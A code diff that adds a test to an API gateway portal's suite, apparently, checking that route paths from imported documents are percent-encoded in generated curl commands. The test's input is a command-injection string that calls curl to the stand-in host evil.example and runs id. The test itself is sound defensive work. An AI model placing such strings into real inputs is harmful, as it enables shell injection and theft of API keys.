@@ -91,3 +91,16 @@ async def test_a_rotated_key_gets_the_curl_line_too() -> None:
         )
     assert rotated.status_code == 200
     assert f'curl -H "X-API-Key: tg_live_ROTATED" "{GATEWAY}/pets/pets"' in rotated.text
+
+
+async def test_a_path_from_an_imported_document_cannot_run_in_the_shell() -> None:
+    # An imported document names the paths; the line is pasted into a shell inside
+    # double quotes, where `"`, `$(…)`, a backquote or `!` would run (and could send the
+    # key anywhere). Percent-encoded, the gateway reads the same path.
+    api_id = str(uuid.uuid4())
+    fake = FakeBackends()
+    path = '/x"$(curl${IFS}evil.example)`id`!\\'
+    fake.apis = [api_body(api_id, "pets", "Pets", routes=[route_body("GET", path)])]
+    page = await create(fake, name="k")
+    encoded = "/x%22%24(curl%24{IFS}evil.example)%60id%60%21%5C"
+    assert f'"{GATEWAY}/pets{encoded}"</textarea>' in page
